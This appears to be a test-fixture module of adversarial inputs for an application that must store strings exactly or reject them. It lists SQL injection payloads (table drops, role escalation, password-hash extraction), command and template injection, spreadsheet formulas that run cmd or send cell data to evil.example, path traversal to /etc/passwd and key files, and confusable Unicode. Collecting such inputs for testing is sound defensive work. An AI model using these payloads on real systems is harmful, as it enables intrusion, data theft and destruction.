// What attackers write where a word was asked for. Each is data to us: it is found, kept and given back as it came, or refused.
export const sql = [
    "'", '"', '`', "''", '\\', "\\'", ';', '--', '/*', '*/', "' OR '1'='1", '" OR "1"="1', "' OR 1=1 --", "') OR ('1'='1", "')) OR 1=1 --", '1 OR 1=1', "1' AND 1=1 --", "1' AND 1=2 --", '1) UNION SELECT 1 --', "' UNION SELECT name FROM sqlite_master --",
    "' UNION SELECT NULL,NULL,NULL --", "'; DROP TABLE deal; --", "'; UPDATE member SET roles='|admin|'; --", "' || (SELECT password_hash FROM credential LIMIT 1) || '", "(SELECT password_hash FROM credential)", 'session.token_hash', 'main.credential', 'sqlite_master', 'rowid', '_rowid_', 'oid',
    "' AND (SELECT sleep(5)) --", "1; SELECT pg_sleep(5) --", "' || pg_sleep(5) || '", "1' WAITFOR DELAY '0:0:5' --", 'BENCHMARK(50000000,MD5(1))', "' AND 1=randomblob(900000000) --", "' AND (WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM r) SELECT count(*) FROM r) --",
    "load_extension('/tmp/x')", "writefile('/tmp/x','y')", "ATTACH DATABASE '/tmp/x' AS x", 'PRAGMA writable_schema=1', "' COLLATE NOCASE --", '%27%20OR%201=1', '\u02bc OR 1=1', '\uff07 OR 1=1', '\u2019 OR 1=1', 'name; ASC', 'name ASC, (SELECT 1)', 'CASE WHEN 1=1 THEN name ELSE id END',
    '-(SELECT 1)', '1e309', '0x41', "x'41'", '${7*7}', '{{7*7}}', '#{7*7}', '<%= 7*7 %>', '%s%s%n', '$where', '[$ne]=1', '*)(uid=*))(|(uid=*', '`id`', '$(id)', '|id', ';id', '&& id',
];

// Text that is hard to carry: every one is kept to the letter, or refused as a whole.
export const texts = {
    'right to left': '\u202eexe.fdp', 'invisible': 'a\u200b\u200d\u2060b', 'a byte order mark': '\ufeffa', 'combining': 'e\u0301'.repeat(200), 'a tower of marks': 'Z' + '\u0335\u0336\u0337\u0338'.repeat(300), 'astral': '𝒜𝓁𝒾𝒸𝑒😀🏳️‍🌈', 'homoglyphs': 'аdmіn', 'full width': 'ａｄｍｉｎ',
    'line separators': 'a\u2028b\u2029c', 'noncharacters': 'a\ufffe\uffff\u{1ffff}', 'private use': '\ue000\u{f0000}', 'Chinese of plane 2': '𠮷𡈽𠂉', 'Turkish': 'İıĞğ', 'German': 'Straße STRASSE', 'Hangul in parts': '\u1112\u1161\u11ab', 'tags': '\u{e0041}\u{e007f}', 'variation': '葛\u{e0100}', 'an isolate': '\u2066a\u2069',
};

// What a spreadsheet would calculate.
export const formulas = [
    '=1+1', '=HYPERLINK("http://evil.example?x="&A1,"a")', '+1+1', '-1+1', '@SUM(1,1)', '=cmd|\' /C calc\'!A0', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@A1', '=WEBSERVICE("http://evil.example")', '=IMPORTXML("http://evil.example","//a")', '=DDE("cmd","/C calc","x")', '＝1+1', '＋1+1', '－1+1', '＠A1',
    '= 1+1', '=\u00a01+1', '\'=1+1', '"=1+1"', '{=1+1}', '=1+1;=2+2', 'a\n=1+1', '=1+1\t', '-', '=', '+8613800138000', '-5', '-5.50', '-1e5', '=A1:B2', '=#REF!',
];

export const paths = [
    '../../../etc/passwd', '..\\..\\windows\\win.ini', '....//....//etc/passwd', '/etc/passwd', 'file:///etc/passwd', '..%2f..%2fetc%2fpasswd', '..%252f..%252fetc', '.', '..', '...', '~', '~root', 'CON', 'NUL.txt', 'a.csv:evil', 'a.csv::$DATA', '.htaccess', '-rf', '--help', '$(id).csv', '`id`.csv', '|id', 'a;b.csv', 'a\u202ecsv.exe',
    '\uff0e\uff0e/x', '\u2025/x', 'a/b/c.csv', 'server.db', 'main.db', '../main.db', '../chain.key', 'x'.repeat(255), '文'.repeat(100), ' ', 'a ', 'a.', 'aux.c', '/proc/self/environ', '/dev/zero', '\\\\evil.example\\share\\x',
];
